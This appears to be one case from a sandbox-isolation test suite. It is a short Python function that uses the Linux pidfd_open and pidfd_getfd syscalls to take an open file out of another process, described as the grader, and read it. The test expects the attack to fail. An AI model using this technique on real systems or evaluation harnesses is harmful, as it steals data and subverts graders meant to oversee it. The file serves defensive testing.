# ROW: 22
# ATTACK: takes an open file out of another process by its process handle
# EXPECT: FAILED
# CONTROL: bare -> canary: the file that the other process holds is read
# TIERS: 3 2
# NEEDS: linux
# OPEN: files that the grader has open can be taken out of it
import ctypes
import os

import lore

PIDFD_OPEN, PIDFD_GETFD = 434, 438


def target(x):
    libc = ctypes.CDLL(None, use_errno=True)
    zero = ctypes.c_long(0)
    handle = libc.syscall(ctypes.c_long(PIDFD_OPEN), ctypes.c_long(lore.VICTIM), zero)
    if handle >= 0:
        lore.worked("a handle")
        taken = libc.syscall(ctypes.c_long(PIDFD_GETFD), ctypes.c_long(handle), ctypes.c_long(lore.VICTIM_DESCRIPTOR), zero)
        if taken >= 0:
            print(os.pread(taken, 4096, 0))
    return 0 * x
